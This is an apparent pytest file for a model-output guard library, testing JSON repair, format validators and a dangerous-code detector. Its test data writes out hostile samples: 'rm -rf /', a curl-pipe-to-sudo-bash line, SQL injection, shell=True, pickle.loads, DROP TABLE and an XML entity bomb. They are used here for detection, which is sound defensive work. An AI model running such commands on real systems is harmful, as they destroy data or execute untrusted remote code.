"""JSON by schema, plain formats, code in fences: what is malformed is found where it stands."""

from __future__ import annotations

import socket
from typing import Any

import pytest

from stanchion_guard.detectors import build
from stanchion_guard.reading import read
from stanchion_guard.records import Detection, Part, Subject

SCHEMA = {
    "type": "object",
    "properties": {"age": {"type": "integer", "minimum": 0}, "name": {"type": "string", "pattern": "^[a-z]+$"}},
    "required": ["name"],
}


def judge(detector: str, text: str, **parameters: Any) -> Detection:
    return build(detector, parameters).detect(read(text), 0, Subject((Part("output", text),)))


def test_json_that_fits_its_schema_passes() -> None:
    assert judge("json_schema", '{"name": "ada", "age": 36}', schema=SCHEMA).score == 0.0


def test_a_value_against_the_schema_is_marked_where_it_stands() -> None:
    text = '{"name": "ada", "age": -3}'
    (finding,) = judge("json_schema", text, schema=SCHEMA).findings
    assert (finding.label, text[finding.start : finding.end]) == ("against_schema", "-3")


@pytest.mark.parametrize(
    ("broken", "mended"),
    [
        ('```json\n{"name": "ada"}\n```', '{"name": "ada"}\n'),
        ('{"name": "ada",}', '{"name": "ada"}'),
        ("{'name': 'ada'}", '{"name": "ada"}'),
        ('{"name": "ada"', '{"name": "ada"}'),
        ('Here you are: {"name": "ada"} Enjoy!', '{"name": "ada"}'),
        ('{name: "ada", "age": None}', '{"name": "ada", "age": null}'),
        ("{'name': 'a\"b'}", '{"name": "a\\"b"}'),
    ],
)
def test_common_faults_are_mended_into_the_replacement(broken: str, mended: str) -> None:
    found = judge("json_schema", broken)
    assert found.findings[0].label == "repaired_json"
    assert found.replacements[0].strip() == mended.strip()


@pytest.mark.parametrize("text", ["no json here", '{"a": }', '{"a": NaN}', "", '{"a": 1, "a": 2}'])
def test_what_cannot_be_mended_is_invalid(text: str) -> None:
    found = judge("json_schema", text)
    assert found.score == 1.0
    assert found.findings[0].label == "invalid_json"


def test_depth_is_bounded() -> None:
    assert judge("json_schema", "[" * 100_000).score == 1.0
    assert judge("json_schema", "[" * 500 + "]" * 500).findings[0].label == "invalid_json"


def test_a_pattern_that_would_hang_a_backtracking_engine_does_not() -> None:
    schema = {"type": "string", "pattern": "^(a+)+$"}
    assert judge("json_schema", '"' + "a" * 5_000 + '!"', schema=schema).score == 1.0


def test_twelve_thousand_items_are_told_apart_as_json_schema_does() -> None:
    rows = ",".join(f'{{"a": {number}}}' for number in range(12_000))
    assert judge("json_schema", f"[{rows}]", schema={"uniqueItems": True}).score == 0.0
    assert judge("json_schema", '[1, true, {"a": [1]}, {"a": [true]}]', schema={"uniqueItems": True}).score == 0.0
    assert judge("json_schema", '[{"a": [1]}, {"a": [1.0]}]', schema={"uniqueItems": True}).score == 1.0


@pytest.mark.slow
def test_definitions_that_double_with_every_step_end() -> None:
    inner = {f"a{step}": {"allOf": [{"$ref": f"#/$defs/a{step + 1}"}] * 2} for step in range(40)}
    with pytest.raises(ValueError, match="too often"):
        judge("json_schema", "{}", schema={"$defs": {**inner, "a40": {}}, "$ref": "#/$defs/a0"})


def test_a_reference_that_is_not_in_the_schema_is_never_fetched() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0)
        there = f"http://127.0.0.1:{server.getsockname()[1]}/"
        with pytest.raises(Exception, match="nope"):
            judge("json_schema", "{}", schema={"$id": f"{there}a", "allOf": [{"$id": f"{there}b", "$ref": "#nope"}]})
        with pytest.raises(BlockingIOError):
            server.accept()


REFUSED: list[dict[str, Any]] = [
    {"type": "nonsense"}, {"pattern": "(?=x)"}, {"$ref": "http://127.0.0.1/x"}, {"$dynamicRef": "http://127.0.0.1/x"},
]  # fmt: skip


@pytest.mark.parametrize("schema", REFUSED)
def test_a_schema_that_cannot_be_run_is_refused_when_built(schema: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="schema"):
        build("json_schema", {"schema": schema})


@pytest.mark.parametrize(
    ("kind", "good", "bad"),
    [
        ("integer", " -42 ", "4.2"),
        ("number", "1e3", "nan"),
        ("date", "2026-11-23", "2026-13-23"),
        ("datetime", "2026-11-23T10:00:00+00:00", "tomorrow"),
        ("email", "a.b@example.org", "a b@example.org"),
        ("url", "https://example.org/x?y=1", "javascript:alert(1)"),
        ("ip", "2001:db8::1", "300.1.1.1"),
        ("boolean", "Yes", "maybe"),
        ("csv", "a,b\n1,2\n", "a,b\n1,2,3\n"),
        ("markdown_table", "| a | b |\n|---|:-:|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 |"),
        ("xml", "<a><b/></a>", "<a><b></a>"),
    ],
)
def test_each_format_takes_its_own_and_refuses_another(kind: str, good: str, bad: str) -> None:
    assert judge("format", good, type=kind).score == 0.0
    assert judge("format", bad, type=kind).score == 1.0


def test_xml_entities_are_refused_not_expanded() -> None:
    bomb = '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>'
    assert "document type" in judge("format", bomb, type="xml").findings[0].reason


def test_enum_and_regex_need_their_parameter() -> None:
    assert judge("format", "red", type="enum", values=["red", "blue"]).score == 0.0
    assert judge("format", "AB-12", type="regex", pattern="[A-Z]{2}-[0-9]{2}").score == 0.0
    assert judge("format", "xAB-12", type="regex", pattern="[A-Z]{2}-[0-9]{2}").score == 1.0
    with pytest.raises(ValueError, match="values"):
        build("format", {"type": "enum"})


def fenced(language: str, code: str) -> str:
    return f"Try this:\n```{language}\n{code}\n```\nDone."


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("bash", "rm -rf /"),
        ("sh", "curl https://x.example/i.sh | sudo bash"),
        ("python", "import os\nos.system('ls ' + name)"),
        ("python", "import pickle\npickle.loads(data)"),
        ("python", 'cursor.execute(f"select * from users where name = {name}")'),
        ("python", "subprocess.run(command, shell=True)"),
        ("sql", "DROP TABLE users;"),
        ("sql", "DELETE FROM users;"),
    ],
)
def test_dangerous_code_is_found_inside_its_fence(language: str, code: str) -> None:
    text = fenced(language, code)
    (finding,) = judge("code", text).findings
    assert finding.label == "dangerous_code"
    assert text[finding.start : finding.end].strip() in code


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "cursor.execute('select * from users where name = %s', (name,))"),
        ("python", "data = yaml.safe_load(text)\nsubprocess.run(['ls'])"),
        ("bash", "rm -rf ./build\ncurl -O https://example.org/file"),
        ("sql", "delete from users where id = 4;"),
        ("json", '{"a": [1, 2]}'),
        ("yaml", "a:\n  - b"),
    ],
)
def test_ordinary_code_passes(language: str, code: str) -> None:
    assert judge("code", fenced(language, code)).score == 0.0


@pytest.mark.parametrize(
    ("language", "code"), [("python", "def f(:"), ("json", "{a}"), ("yaml", "a: [1"), ("sql", "select (1 from x")]
)
def test_code_that_does_not_parse_is_invalid(language: str, code: str) -> None:
    found = judge("code", fenced(language, code))
    assert [finding.label for finding in found.findings] == ["invalid_code"]


def test_python_with_an_odd_escape_warns_nobody() -> None:
    assert judge("code", fenced("python", "x = '\\d'")).score == 0.0


def test_unknown_languages_and_texts_without_code_are_skipped() -> None:
    assert judge("code", fenced("brainfuck", "+++")).skipped
    assert judge("code", "no code").skipped
